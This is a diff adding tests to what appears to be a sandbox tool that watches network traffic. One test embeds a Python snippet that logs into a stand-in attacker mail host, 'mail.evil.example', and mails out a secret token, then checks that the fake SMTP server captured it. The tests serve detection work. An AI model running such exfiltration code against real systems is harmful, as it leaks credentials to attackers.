@@ -495,3 +495,42 @@ def test_records_settle_until_open_flows_end() -> None:
             assert [(r["dst"], r["dst_port"], r["bytes"]) for r in flows] == [("192.0.2.55", 6667, 6)]
         finally:
             proc.wait(10)
+
+
+@needs_root_net
+def test_mail_exfiltration_is_captured_by_the_fake_smtp_server() -> None:
+    with FakeNetwork(run_id=f"m-{uuid.uuid4().hex[:10]}") as net:
+        net.set_phase("import")
+        code = (
+            "import smtplib\n"
+            "with smtplib.SMTP('mail.evil.example', 587, timeout=5) as m:\n"
+            "    m.ehlo()\n"
+            f"    m.login('collector', {TOKEN!r})\n"
+            f"    m.sendmail('a@x.example', ['b@y.example'], 'Subject: loot\\r\\n\\r\\nkey: {TOKEN}')\n"
+            "print('sent')\n"
+        )
+        proc = run_inside(net, code)
+        assert proc.returncode == 0 and proc.stdout.strip() == "sent", proc.stderr
+        (flow,) = _of(net.records(), kind="tcp")
+        assert flow["dst_port"] == 587 and flow["hostname"] == "mail.evil.example"
+        conversation = base64.b64decode(flow["first_bytes"])
+        lines = conversation.split(b"\r\n")
+        assert b"mail FROM:<a@x.example>" in lines and b"Subject: loot" in lines and lines[-2] == b"QUIT"
+        (found,) = find_tokens(net.records(), {"aws": TOKEN})
+        assert found["encoding"] == "raw" and found["phase"] == "import"
+        # The password also travelled base64-encoded in AUTH PLAIN, before the DATA.
+        (auth,) = [line for line in lines if line.startswith(b"AUTH PLAIN ")]
+        assert base64.b64decode(auth.split()[2]).split(b"\0") == [b"", b"collector", TOKEN.encode()]
+
+
+def test_smtp_reply_walks_auth_login_and_data() -> None:
+    from osptrack.sandbox.fakenet import smtp_reply
+
+    state = "cmd"
+    codes = []
+    for line in [b"EHLO me", b"AUTH LOGIN", b"dXNlcg==", b"cGFzcw==", b"MAIL FROM:<a@b>", b"DATA", b"line 1",
+                 b".", b"QUIT"]:  # fmt: skip
+        reply, state = smtp_reply(line + b"\r\n", state)
+        codes.append(reply[:3])
+    assert codes == [b"250", b"334", b"334", b"235", b"250", b"354", b"", b"250", b"221"]
+    assert state == "quit"
